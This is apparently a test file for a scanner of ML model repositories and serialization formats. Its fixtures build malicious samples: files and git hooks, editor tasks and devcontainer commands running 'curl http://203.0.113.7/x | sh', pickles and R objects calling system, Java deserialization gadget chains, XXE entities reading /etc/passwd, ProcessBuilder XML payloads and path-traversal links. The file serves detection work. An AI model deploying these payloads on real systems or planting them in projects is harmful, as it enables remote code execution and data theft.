import { describe } from "vitest";
import { concat, u32, u64, zeros } from "../builders/bytes.js";
import { java, javaStream } from "../builders/java.js";
import { Extension, pack } from "../builders/msgpack.js";
import * as p from "../builders/pickle.js";
import { field, integer, message } from "../builders/protobuf.js";
import { ascii, r, workspace, xdr } from "../builders/r.js";
import { oneTensor } from "../builders/safetensors.js";
import { bytecode, lua } from "../builders/torch7.js";
import { zip } from "../builders/zip.js";
import { failing, failingTogether } from "./attack.js";

const MALICE = p.osSystem();
const COMMAND = "curl http://203.0.113.7/x | sh";
const RUN = `import os\nos.system("${COMMAND}")\n`;
const LATER = `import os\ndef load(*args):\n    os.system("${COMMAND}")\n`;
const json = JSON.stringify;

describe("an attack by a repository", () => {
  failingTogether([
    {
      hope: "code of auto_map runs a command",
      files: () => ({
        "config.json": json({ model_type: "x", auto_map: { AutoModel: "modeling_x.X" } }),
        "modeling_x.py": RUN,
      }),
      least: "high",
    },
    {
      hope: "code of auto_map is compiled",
      files: () => ({
        "config.json": json({ auto_map: { AutoModel: "modeling_x.X" } }),
        "__pycache__/modeling_x.cpython-311.pyc": concat([0xa7, 0x0d, 0x0d, 0x0a], zeros(12), "\xe3"),
      }),
    },
    {
      hope: "code of auto_map lies in a folder",
      files: () => ({
        "config.json": json({ auto_map: { AutoModel: "src.modeling_x.X" } }),
        "src/modeling_x.py": LATER,
      }),
      least: "high",
    },
    {
      hope: "the module imports a neighbour that runs the command",
      files: () => ({
        "config.json": json({ auto_map: { AutoModel: "modeling_x.X" } }),
        "modeling_x.py": "from .helper import run\nrun()\n",
        "helper.py": `import os\ndef run():\n    os.system("${COMMAND}")\n`,
      }),
      least: "high",
    },
    {
      hope: "a pipeline of diffusers is a file",
      files: () => ({
        "model_index.json": json({ _class_name: ["pipeline", "Evil"], _diffusers_version: "0.30.0" }),
        "pipeline.py": LATER,
      }),
      least: "high",
    },
    {
      hope: "a component of diffusers is a file",
      files: () => ({
        "model_index.json": json({
          _class_name: "StableDiffusionPipeline",
          _diffusers_version: "0.30.0",
          unet: ["evil_unet", "UNet"],
        }),
        "unet/evil_unet.py": LATER,
      }),
    },
    {
      hope: "sitecustomize.py",
      files: () => ({ "model.safetensors": oneTensor(), "sitecustomize.py": "x = 1\n" }),
      least: "high",
    },
    {
      hope: "sitecustomize is a package",
      files: () => ({ "model.safetensors": oneTensor(), "sitecustomize/__init__.py": "x = 1\n" }),
      least: "high",
    },
    {
      hope: "usercustomize is compiled",
      files: () => ({ "model.safetensors": oneTensor(), "usercustomize.pyc": zeros(16) }),
      least: "high",
    },
    {
      hope: "sitecustomize lies deeper",
      files: () => ({ "model.safetensors": oneTensor(), "code/lib/sitecustomize.py": "x = 1\n" }),
      least: "high",
    },
    { hope: "a .pth file runs a line of Python", files: () => ({ "zz.pth": RUN.replace("\n", ";") }), least: "high" },
    {
      hope: "a .pth file runs a line of Python behind a mark",
      files: () => ({ "zz.pth": `\ufeff${RUN.replace("\n", ";")}` }),
      least: "high",
    },
    {
      hope: "a .pth file runs a line of Python behind many paths",
      files: () => ({ "zz.pth": `${"some/path\n".repeat(8000)}${RUN.replace("\n", ";")}` }),
      least: "high",
    },
    {
      hope: "torch.py lies beside the weights",
      files: () => ({ "pytorch_model.bin": p.pickle(p.proto(4), p.none, p.stop), "torch.py": "def load(*a): pass\n" }),
    },
    {
      hope: "a native module shadows numpy",
      files: () => ({
        "model.safetensors": oneTensor(),
        "numpy.cpython-311-x86_64-linux-gnu.so": concat("\x7fELF", [2, 1, 1, 0], zeros(8), [3, 0, 62, 0], zeros(100)),
      }),
    },
    {
      hope: "a package of the standard library is shadowed",
      files: () => ({ "model.safetensors": oneTensor(), "json/__init__.py": RUN }),
      least: "high",
    },
    {
      hope: "a git hook",
      files: () => ({ "model.safetensors": oneTensor(), ".git/hooks/post-checkout": `#!/bin/sh\n${COMMAND}\n` }),
    },
    {
      hope: "a git configuration runs a program",
      files: () => ({ "model.safetensors": oneTensor(), ".git/config": `[core]\n\tfsmonitor = "${COMMAND}"\n` }),
    },
    {
      hope: "a git filter",
      files: () => ({
        "model.safetensors": oneTensor(),
        ".gitattributes": "* filter=evil\n",
        ".gitconfig": `[filter "evil"]\n\tsmudge = ${COMMAND}\n`,
      }),
    },
    {
      hope: "an editor's task runs when the folder is opened",
      files: () => ({
        "model.safetensors": oneTensor(),
        ".vscode/tasks.json": json({
          tasks: [{ label: "x", type: "shell", command: COMMAND, runOptions: { runOn: "folderOpen" } }],
        }),
      }),
    },
    {
      hope: "a development container runs a command",
      files: () => ({
        "model.safetensors": oneTensor(),
        ".devcontainer/devcontainer.json": json({ image: "x", postCreateCommand: COMMAND }),
      }),
    },
    {
      hope: "the handler of an inference endpoint runs a command",
      files: () => ({
        "model.safetensors": oneTensor(),
        "handler.py": `import os\nclass EndpointHandler:\n    def __init__(self, path):\n        os.system("${COMMAND}")\n`,
      }),
      least: "high",
    },
    {
      hope: "a dataset's script runs a command",
      files: () => ({
        "data.py": `import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n    def _info(self):\n        os.system("${COMMAND}")\n`,
      }),
      least: "high",
    },
    {
      hope: "a custom_generate script runs a command",
      files: () => ({ "config.json": json({ model_type: "llama" }), "custom_generate/generate.py": LATER }),
      least: "high",
    },
    {
      hope: "sentence-transformers' module is a file",
      files: () => ({
        "modules.json": json([{ idx: 0, name: "0", path: "", type: "custom_st.Transformer" }]),
        "config_sentence_transformers.json": "{}",
        "custom_st.py": LATER,
      }),
      least: "high",
    },
    {
      hope: "MLflow's loader module is a file of the code folder",
      files: () => ({
        MLmodel: "flavors:\n  python_function:\n    loader_module: evil\n    code: code\n",
        "code/evil.py": RUN,
      }),
      least: "high",
    },
    {
      hope: "MLflow's loader module is the standard library",
      files: () => ({ MLmodel: "flavors:\n  python_function:\n    loader_module: antigravity\n" }),
    },
    {
      hope: "MLflow's model is written as code",
      files: () => ({
        MLmodel:
          "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: model.py\n",
        "model.py": RUN,
      }),
      least: "high",
    },
    {
      hope: "MLflow's pickle is compressed",
      files: () => ({
        MLmodel:
          "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl.gz\n    python_model_compression: gzip\n",
        "python_model.pkl.gz": MALICE,
      }),
      least: "high",
    },
    {
      hope: "MLflow's environment takes packages from an address",
      files: () => ({
        MLmodel: "flavors: {}\n",
        "conda.yaml": "dependencies:\n- pip:\n  - --extra-index-url http://203.0.113.7/simple\n  - numpy\n",
      }),
    },
    {
      hope: "Triton's Python backend runs a command",
      files: () => ({ "m/config.pbtxt": 'name: "m"\nbackend: "python"\n', "m/1/model.py": LATER }),
      least: "high",
    },
    {
      hope: "Triton's backend is a library of the repository",
      files: () => ({
        "m/config.pbtxt": 'name: "m"\nbackend: "evil"\n',
        "m/libtriton_evil.so": concat("\x7fELF", [2, 1, 1, 0], zeros(8), [3, 0, 62, 0], zeros(100)),
      }),
    },
    {
      hope: "Triton's environment is taken from elsewhere",
      files: () => ({
        "m/config.pbtxt":
          'backend: "python"\nparameters { key: "EXECUTION_ENV_PATH" value { string_value: "/tmp/evil.tar.gz" } }\n',
        "m/1/model.py": "x = 1\n",
      }),
    },
    {
      hope: "BentoML's service runs a command",
      files: () => ({ "bento.yaml": "service: service:svc\n", "src/service.py": RUN }),
      least: "high",
    },
    {
      hope: "TorchServe's handler runs a command",
      files: () => ({
        "MAR-INF/MANIFEST.json": json({ model: { handler: "handler.py", serializedFile: "m.pt" } }),
        "handler.py": LATER,
        "m.pt": zeros(4),
      }),
      least: "high",
    },
    {
      hope: "skops names a function",
      files: () => ({
        "m.skops": zip({
          entries: [
            {
              name: "schema.json",
              data: json({
                __class__: "system",
                __module__: "os",
                __loader__: "FunctionNode",
                content: {},
                protocol: 2,
              }),
            },
          ],
        }),
      }),
      least: "high",
    },
    {
      hope: "skops hides a method behind a name",
      files: () => ({
        "m.skops": zip({
          entries: [
            {
              name: "schema.json",
              data: json({
                __class__: "call",
                __module__: "operator",
                __loader__: "OperatorFuncNode",
                content: { __class__: "system", __module__: "os", __loader__: "FunctionNode" },
                attrs: {},
                protocol: 2,
              }),
            },
          ],
        }),
      }),
      least: "high",
    },
    {
      hope: "the package of spaCy has code beside its configuration",
      files: () => ({
        "meta.json": json({ lang: "en", name: "x", spacy_version: ">=3" }),
        "config.cfg": '[nlp]\nlang = "en"\n',
        "x.py": RUN,
      }),
      least: "high",
    },
    {
      hope: "NLTK or gensim data are pickles under an odd name",
      files: () => ({ "punkt/PY3/english.pickle": MALICE }),
      least: "high",
    },
    { hope: "fairseq's dictionary is a pickle", files: () => ({ "dict.txt": MALICE }), least: "high" },
    {
      hope: "the optimiser's state is a pickle",
      files: () => ({ "optimizer.pt": MALICE, "model.safetensors": oneTensor() }),
      least: "high",
    },
    {
      hope: "the index names a shard elsewhere",
      files: () => ({ "model.safetensors.index.json": json({ weight_map: { w: "../../evil.safetensors" } }) }),
    },
    {
      hope: "the index names a pickle as a shard",
      files: () => ({
        "model.safetensors.index.json": json({ weight_map: { w: "model-00001-of-00001.safetensors" } }),
        "model-00001-of-00001.safetensors": MALICE,
      }),
      least: "high",
    },
    { hope: "a link leads out of the folder", files: () => ({ "model.safetensors": { link: "/etc/passwd" } }) },
    {
      hope: "a Core ML package has a path of its own",
      files: () => ({
        "m.mlpackage/Manifest.json": json({
          fileFormatVersion: "1.0.0",
          itemInfoEntries: { A: { path: "../../../etc/passwd" } },
        }),
      }),
    },
    {
      hope: "OpenVINO's plugins are named in a file",
      files: () => ({ "plugins.xml": '<ie><plugins><plugin name="CPU" location="/tmp/libevil.so"/></plugins></ie>' }),
    },
    {
      hope: "an installer of a Space runs a command",
      files: () => ({ "pre-requirements.txt": "evil @ http://203.0.113.7/x.whl\n", "app.py": "x=1\n" }),
    },
    {
      hope: "a zipped Python program",
      files: () => ({
        "model.pyz": zip({
          entries: [{ name: "__main__.py", data: RUN }],
          prefix: Buffer.from("#!/usr/bin/env python3\n"),
        }),
      }),
      least: "high",
    },
    {
      hope: "an egg of Python",
      files: () => ({ "x.egg": zip({ entries: [{ name: "x/__init__.py", data: RUN }] }) }),
      least: "high",
    },
    { hope: "Cython source and a stub", files: () => ({ "x.pyx": RUN }) },
    { hope: "Python under an ending of text", files: () => ({ "modeling_x.txt": RUN }) },
    { hope: "Python without an ending", files: () => ({ modeling_x: RUN }) },
    { hope: "an R script", files: () => ({ "load.R": `system("${COMMAND}")\n` }) },
    { hope: "a Julia script", files: () => ({ "load.jl": `run(\`sh -c "${COMMAND}"\`)\n` }) },
    { hope: "a JavaScript loader", files: () => ({ "index.js": `require("child_process").execSync("${COMMAND}")\n` }) },
    {
      hope: "a C++ source of an extension",
      files: () => ({ "ops.cu": `#include <cstdlib>\nstatic int x = system("${COMMAND}");\n` }),
    },
  ]);
});

const elf = concat("\x7fELF", [2, 1, 1, 0], zeros(8), [2, 0, 62, 0], zeros(200));

describe("an attack by another format", () => {
  const system = r.call(r.symbol("system"), r.text("id"));
  failing([
    { hope: "R: an unbound promise", name: "m.rds", bytes: () => xdr(r.promise(r.unbound, system)), least: "high" },
    {
      hope: "R: a promise in a list in an environment",
      name: "m.rds",
      bytes: () => xdr(r.list(r.environment(r.pairs(["x", r.promise(r.unbound, system)])))),
      least: "high",
    },
    {
      hope: "R: an active binding",
      name: "m.rds",
      bytes: () => xdr(r.environment(r.activeBinding("x", r.closure(r.globalEnvironment, system)))),
    },
    { hope: "R: text form", name: "m.rds", bytes: () => ascii(r.promise(r.unbound, system)), least: "high" },
    {
      hope: "R: a workspace",
      name: "m.RData",
      bytes: () => workspace(r.pairs(["x", r.promise(r.unbound, system)])),
      least: "high",
    },
    {
      hope: "R: a closure that runs a command",
      name: "m.rds",
      bytes: () => xdr(r.closure(r.globalEnvironment, system)),
    },
    {
      hope: "R: a workspace defines a start-up function",
      name: "m.RData",
      bytes: () => workspace(r.pairs([".First", r.closure(r.globalEnvironment, system)])),
    },
    {
      hope: "R: a workspace replaces print",
      name: "m.RData",
      bytes: () => workspace(r.pairs(["print.lm", r.closure(r.globalEnvironment, system)])),
    },
    { hope: "R: bytecode runs the command", name: "m.rds", bytes: () => xdr(r.bytecode("system", "id")) },
    {
      hope: "R: the function is reached over do.call",
      name: "m.rds",
      bytes: () =>
        xdr(r.closure(r.globalEnvironment, r.call(r.symbol("do.call"), r.text("system"), r.list(r.text("id"))))),
    },
    {
      hope: "R: the function is reached over base::",
      name: "m.rds",
      bytes: () =>
        xdr(
          r.closure(
            r.globalEnvironment,
            r.call(r.call(r.symbol("::"), r.symbol("base"), r.symbol("system")), r.text("id")),
          ),
        ),
    },
    {
      hope: "R: text is parsed and evaluated",
      name: "m.rds",
      bytes: () =>
        xdr(
          r.closure(r.globalEnvironment, r.call(r.symbol("eval"), r.call(r.symbol("parse"), r.text("system('id')")))),
        ),
    },
    {
      hope: "R: a native library is loaded",
      name: "m.rds",
      bytes: () => xdr(r.closure(r.globalEnvironment, r.call(r.symbol("dyn.load"), r.text("/tmp/x.so")))),
    },
    {
      hope: "Torch7: a function",
      name: "m.t7",
      bytes: () => lua.table(1, lua.text("f"), lua.function(8, 2, bytecode("os", "execute", "id"))),
    },
    { hope: "Torch7: a function of old", name: "m.t7", bytes: () => lua.function(6, 0, bytecode("io", "popen", "id")) },
    {
      hope: "Java: a gadget chain",
      name: "m.model",
      bytes: () => javaStream(java.object("org.apache.commons.collections.functors.InvokerTransformer")),
    },
    {
      hope: "Java: a chain through a written object",
      name: "m.ser",
      bytes: () =>
        javaStream(
          java.written(
            "java.util.PriorityQueue",
            java.block(0, 0, 0, 2),
            java.object("org.apache.commons.beanutils.BeanComparator"),
          ),
        ),
    },
    {
      hope: "Java: templates of bytecode",
      name: "m.ser",
      bytes: () => javaStream(java.object("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl")),
    },
    {
      hope: "PMML: an external entity by a parameter",
      name: "m.pmml",
      bytes: () =>
        '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://203.0.113.7/x.dtd"> %x;]><PMML version="4.4"/>',
      least: "high",
    },
    {
      hope: "PMML: an external entity in UTF-16",
      name: "m.pmml",
      bytes: () =>
        Buffer.from(
          '\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>',
          "utf16le",
        ),
      least: "high",
    },
    {
      hope: "PMML: an external entity in UTF-16 of the other order",
      name: "m.pmml",
      bytes: () =>
        Buffer.from(
          '\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>',
          "utf16le",
        ).swap16(),
      least: "high",
    },
    {
      hope: "PMML: an extension of a Java function",
      name: "m.pmml",
      bytes: () =>
        '<?xml version="1.0"?><PMML version="4.4"><TransformationDictionary><DefineFunction name="f"><Apply function="java.lang.Runtime"/></DefineFunction></TransformationDictionary></PMML>',
      least: "high",
    },
    {
      hope: "Java's XMLDecoder builds a process",
      name: "m.xml",
      bytes: () =>
        '<?xml version="1.0"?><java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>',
      least: "high",
    },
    {
      hope: "XStream builds a handler",
      name: "m.xml",
      bytes: () =>
        '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>',
    },
    {
      hope: "Spring's beans build a process",
      name: "m.xml",
      bytes: () =>
        '<?xml version="1.0"?><beans xmlns="http://www.springframework.org/schema/beans"><bean class="java.lang.ProcessBuilder" init-method="start"><constructor-arg><list><value>id</value></list></constructor-arg></bean></beans>',
    },
    {
      hope: "OpenVINO: an extension layer",
      name: "m.xml",
      bytes: () =>
        '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" type="Evil" version="extension"><data implementation="/tmp/libevil.so"/></layer></layers></net>',
    },
    {
      hope: "a property list holds a Python call",
      name: "m.plist",
      bytes: () =>
        `<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://203.0.113.7/x.dtd"><plist version="1.0"><dict/></plist>`,
    },
    {
      hope: "MXNet: a native pointer",
      name: "m-symbol.json",
      bytes: () =>
        json({ nodes: [{ op: "_Native", name: "n", attrs: { info: "0x41414141" }, inputs: [] }], heads: [[0, 0, 0]] }),
      least: "high",
    },
    {
      hope: "MXNet: a subgraph holds the custom operator",
      name: "m-symbol.json",
      bytes: () =>
        json({
          nodes: [
            {
              op: "_foreach",
              name: "n",
              inputs: [],
              subgraphs: [{ nodes: [{ op: "Custom", name: "c", attrs: { op_type: "evil" }, inputs: [] }], heads: [] }],
            },
          ],
          heads: [[0, 0, 0]],
        }),
    },
    {
      hope: "Paddle: a Python function",
      name: "m.pdmodel",
      bytes: () => field(1, integer(1, 0), integer(2, -1n), field(3, field(1, "x")), field(4, field(3, "py_func"))),
    },
    { hope: "Paddle: parameters that are a pickle", name: "m.pdparams", bytes: () => MALICE, least: "high" },
    {
      hope: "Paddle: a program in JSON runs Python",
      name: "m.json",
      bytes: () =>
        json({
          base_code: { magic: "pir", version: 1 },
          program: { regions: [{ blocks: [{ ops: [{ "#": "1.py_layer" }] }] }] },
        }),
    },
    {
      hope: "Core ML: a custom model",
      name: "m.mlmodel",
      bytes: () => message(integer(1, 4), field(555, field(10, "Evil"))),
    },
    {
      hope: "Core ML: a custom layer",
      name: "m.mlmodel",
      bytes: () => message(integer(1, 4), field(500, field(1, field(1, "l"), field(500, field(10, "Evil"))))),
    },
    {
      hope: "TensorRT: a library inside",
      name: "m.engine",
      bytes: () => concat("ftrt", zeros(60), elf),
      least: "high",
    },
    {
      hope: "TensorRT: a path of a library",
      name: "m.plan",
      bytes: () => concat("ptrt", zeros(60), "/tmp/x/libevil.so.1\0"),
    },
    { hope: "RKNN: a program inside", name: "m.rknn", bytes: () => concat("RKNN", zeros(60), elf), least: "high" },
    { hope: "GGML: a program behind the header", name: "m.bin", bytes: () => concat(u32(0x67676d6c), zeros(64), elf) },
    { hope: "msgpack: a pickle as text of bytes", name: "m.msgpack", bytes: () => pack({ a: MALICE }) },
    { hope: "msgpack: an extension of nobody", name: "m.msgpack", bytes: () => pack({ a: new Extension(42, MALICE) }) },
    {
      hope: "msgpack: msgpack_numpy's objects",
      name: "m.msgpack",
      bytes: () => pack({ nd: true, type: "O", kind: "O", data: MALICE }),
    },
    {
      hope: "numpy: the header is an expression",
      name: "m.npy",
      bytes: () => npy("{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,), }", zeros(8)),
    },
    {
      hope: "numpy: an array of objects",
      name: "m.npy",
      bytes: () => npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", MALICE),
      least: "high",
    },
    {
      hope: "numpy: objects in a field of a structure",
      name: "m.npy",
      bytes: () =>
        npy("{'descr': [('a', '<f4'), ('b', [('c', '|O')])], 'fortran_order': False, 'shape': (1,), }", MALICE),
      least: "high",
    },
    {
      hope: "numpy: an array in an archive under another name",
      name: "m.npz",
      bytes: () =>
        zip({
          entries: [{ name: "a", data: npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", MALICE) }],
        }),
      least: "high",
    },
    {
      hope: "a pickle behind numpy's data",
      name: "m.npy",
      bytes: () => concat(npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }", zeros(8)), MALICE),
    },
    {
      hope: "LightGBM: a pickle behind the model",
      name: "m.txt",
      bytes: () =>
        concat(
          "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=0\nobjective=regression\nfeature_names=a\nfeature_infos=none\ntree_sizes=0\n\nend of trees\n\nparameters:\n[input_model: http://203.0.113.7/m]\nend of parameters\n",
          MALICE,
        ),
    },
    {
      hope: "XGBoost: a pickle behind the JSON",
      name: "m.json",
      bytes: () =>
        concat(json({ learner: { attributes: {}, gradient_booster: { name: "gbtree" } }, version: [2, 0, 0] }), MALICE),
    },
    {
      hope: "XGBoost: a pickle among the attributes",
      name: "m.json",
      bytes: () =>
        json({
          learner: {
            attributes: { scikit_learn: Buffer.from(MALICE).toString("base64") },
            gradient_booster: { name: "gbtree" },
          },
          version: [2, 0, 0],
        }),
    },
    {
      hope: "CatBoost: a pickle behind the model",
      name: "m.cbm",
      bytes: () => concat("CBM1", u32(16), zeros(16), MALICE),
    },
    {
      hope: "JAX: an exported module calls the host",
      name: "m.mlir",
      bytes: () =>
        'module @jit_f { func.func public @main() { %0 = stablehlo.custom_call @xla_python_cpu_callback() {api_version = 2 : i32, backend_config = "94"} : () -> tuple<> return } }',
    },
    {
      hope: "JAX: an exported module in bytes calls the host",
      name: "m.stablehlo",
      bytes: () => moduleBytecode("stablehlo", "custom_call_v1", "xla_python_cpu_callback"),
    },
    {
      hope: "a core dump, a database and a table with objects",
      name: "m.sqlite",
      bytes: () => concat("SQLite format 3\0", zeros(100), MALICE),
    },
    {
      hope: "an Arrow file with an extension of Python",
      name: "m.arrow",
      bytes: () =>
        concat(
          "ARROW1\0\0",
          zeros(40),
          "ARROW:extension:name\0arrow.py_extension_type\0ARROW:extension:metadata\0",
          MALICE,
          "ARROW1",
        ),
    },
    {
      hope: "a Parquet file with an extension of Python",
      name: "m.parquet",
      bytes: () => concat("PAR1", zeros(40), "arrow.py_extension_type", MALICE, u32(40), "PAR1"),
    },
    {
      hope: "MATLAB: a function handle",
      name: "m.mat",
      bytes: () => concat("MATLAB 5.0 MAT-file, Platform: posix".padEnd(124), [0, 1, 0x49, 0x4d], MALICE),
    },
    {
      hope: "llamafile: arguments run a command",
      name: "m.llamafile",
      bytes: () =>
        zip({
          entries: [
            { name: ".args", data: `-m\nm.gguf\n--log-file\n/root/.bashrc\n` },
            { name: "m.gguf", data: concat("GGUF", u32(3), u64(0), u64(0)) },
          ],
          prefix: concat("MZqFpD='\n", zeros(200)),
        }),
    },
    {
      hope: "IDX, TFRecord and other data with a pickle inside",
      name: "m.tfrecord",
      bytes: () => concat(u64(MALICE.length), zeros(4), MALICE, zeros(4)),
    },
    { hope: "a shelve of dbm", name: "model.dir", bytes: () => concat("'a', (0, 40)\n", MALICE) },
  ]);
});

function npy(header: string, data: Uint8Array): Uint8Array {
  const padded = `${header.padEnd(117)}\n`;
  return concat([0x93], "NUMPY", [1, 0, padded.length & 255, padded.length >> 8], padded, data);
}

/** The start of an MLIR module in bytecode: a section of its strings. Lengths come in reverse order and count the NUL behind each. */
function moduleBytecode(...texts: readonly string[]): Uint8Array {
  const varint = (value: number) => [(value << 1) | 1];
  const lengths = texts.map((text) => varint(text.length + 1)).reverse();
  const section = concat(varint(texts.length), ...lengths, ...texts.map((text) => `${text}\0`));
  return concat("ML", [0xef, 0x52], varint(6), "StableHLO_v1.0.0\0", [0], varint(section.length), section, zeros(40));
}
